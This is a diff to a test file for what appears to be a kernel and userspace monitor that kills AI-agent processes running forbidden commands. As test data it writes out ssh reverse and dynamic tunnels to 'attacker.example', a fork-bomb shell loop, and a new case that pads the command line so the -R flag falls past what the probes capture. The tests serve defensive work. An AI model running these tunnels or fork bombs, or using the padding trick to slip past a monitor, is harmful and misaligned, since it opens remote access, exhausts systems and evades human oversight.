@@ -109,6 +109,9 @@ def test_in_kernel_exec_rule_stops_the_binary_before_its_first_instruction(
     ("ssh", ["-fNR", "2222:localhost:22", "attacker.example"], "ssh-reverse-or-dynamic-forward"),
     ("ssh", ["-o", "DynamicForward=1080", "-N", "attacker.example"],
      "ssh-reverse-or-dynamic-forward"),
+    # padding that pushes -R past the bytes the probes keep: judged on the whole command line
+    ("ssh", ["-o", "SendEnv=" + "A" * 3000, "-NR", "9000:localhost:22", "attacker.example"],
+     "ssh-reverse-or-dynamic-forward"),
 ])
 def test_userspace_exec_rule_kills_within_milliseconds(enforcing: Running, tmp_path: Path,
                                                        name: str, argv: list[str],
@@ -121,7 +124,9 @@ def test_userspace_exec_rule_kills_within_milliseconds(enforcing: Running, tmp_p
     assert killed(p)
     assert time.monotonic() - start < 4, "killed only after its sleep would have ended"
     v = enforcing.wait_verdict(rule=rule, pid=p.pid)
-    assert v["outcome"] == "killed" and v["argv"] == [str(prog), *argv]
+    # argv as the kernel runs it (and /proc/PID/cmdline shows it): a #! script's is the
+    # interpreter's, with the script's path in place of the caller's argv[0]
+    assert v["outcome"] == "killed" and v["argv"] == ["/bin/sh", str(prog), *argv]
     assert v["mode"] == "enforce" and v["ancestry"]
     plain = subprocess.run([str(prog), *argv], timeout=10)  # not an agent: runs to the end
     assert plain.returncode == 0
@@ -235,9 +240,15 @@ def test_a_short_cpu_burst_survives(enforcing: Running) -> None:
     assert not enforcing.verdicts(pid=p.pid)
 
 
+def _start_ticks(pid: int) -> int:
+    stat = Path(f"/proc/{pid}/stat").read_text()
+    return int(stat[stat.rindex(")") + 2:].split()[19])
+
+
 def test_fork_bomb_kills_the_whole_tree_even_while_it_forks(enforcing: Running) -> None:
     bomb = "while :; do sleep 60 & done"
     p = agent_exec(["/bin/sh", "-c", bomb], agent="claude-code", socket=SOCK)
+    started = _start_ticks(p.pid)
     v = enforcing.wait_verdict(rule="fork-bomb", timeout=60)
     session = int(str(v["session"]))
     assert killed(p, timeout=20)
@@ -249,11 +260,17 @@ def test_fork_bomb_kills_the_whole_tree_even_while_it_forks(enforcing: Running) 
     for pid in os.listdir("/proc"):
         if pid.isdigit():
             try:
-                if Path(f"/proc/{pid}/cmdline").read_bytes() == b"sleep\x0060\x00":
+                if Path(f"/proc/{pid}/cmdline").read_bytes() == b"sleep\x0060\x00" and \
+                        _start_ticks(int(pid)) >= started:  # the bomb's, nobody else's
                     survivors.append(pid)
             except OSError:
                 continue
-    assert not survivors, f"sleep processes of the bomb still alive: {survivors[:5]}"
+    probes = enforcing.monitor.probes
+    seen = [(pid, probes.session_of(int(pid))) for pid in survivors[:5]]
+    for pid in survivors:  # the test's own leftovers: end them before failing
+        os.kill(int(pid), signal.SIGKILL)
+    assert not survivors, (f"sleep processes of the bomb still alive (pid, session in the "
+                           f"kernel): {seen}; counters {probes.counters()}")
 
 
 # --- ordinary work, monitor mode ---------------------------------------------------------------
